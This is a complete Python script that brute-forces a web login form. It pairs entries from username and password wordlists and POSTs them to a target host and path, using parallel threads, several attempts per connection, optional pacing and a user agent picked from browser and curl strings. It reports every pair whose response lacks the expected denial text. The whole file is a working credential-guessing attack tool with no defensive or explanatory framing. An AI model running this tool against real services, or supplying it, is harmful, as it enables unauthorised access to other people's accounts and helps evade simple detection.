#!/usr/bin/python3
"""Tries up to --most pairs of user name and password on a login form, one or more per connection."""

import argparse
import concurrent.futures
import http.client
import itertools
import random
import sys
import time
import urllib.parse

AGENTS = ("python-requests/2.31.0", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0", "Go-http-client/1.1", "curl/7.88.1")


def try_some(options, pairs, agent):
    """Sends the pairs over one connection and returns those that were not denied."""
    found = []
    connection = http.client.HTTPConnection(options.address, options.port, timeout=8)
    try:
        for place, (user, password) in enumerate(pairs):
            body = urllib.parse.urlencode({options.user_field: user, options.password_field: password})
            last = place == len(pairs) - 1
            headers = {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": agent, "Connection": "close" if last else "keep-alive"}
            connection.request("POST", options.path, body, headers)
            answer = connection.getresponse().read(65536).decode(errors="replace")
            if options.denied not in answer:
                found.append((user, password))
            time.sleep(options.pause_ms / 1e3)
    except (OSError, http.client.HTTPException) as failure:
        print(f"failed {failure}", file=sys.stderr)
    finally:
        connection.close()
    return found


def lines(path):
    with open(path, encoding="utf-8") as handle:
        return handle.read().split()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", required=True)
    parser.add_argument("--users", required=True)
    parser.add_argument("--passwords", required=True)
    parser.add_argument("--user-field", required=True)
    parser.add_argument("--password-field", required=True)
    parser.add_argument("--denied", required=True)
    parser.add_argument("--tasks", type=int, default=1)
    parser.add_argument("--per-connection", type=int, default=1)
    parser.add_argument("--pause-ms", type=int, default=0)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--most", type=int, default=120)
    options = parser.parse_args()
    agent = random.Random(options.seed).choice(AGENTS)
    pairs = list(itertools.product(lines(options.users), lines(options.passwords)))[: options.most]
    groups = [pairs[first : first + options.per_connection] for first in range(0, len(pairs), options.per_connection)]
    with concurrent.futures.ThreadPoolExecutor(options.tasks) as pool:
        for found in pool.map(lambda group: try_some(options, group, agent), groups):
            for user, password in found:
                print(f"found {user} {password}")


main()
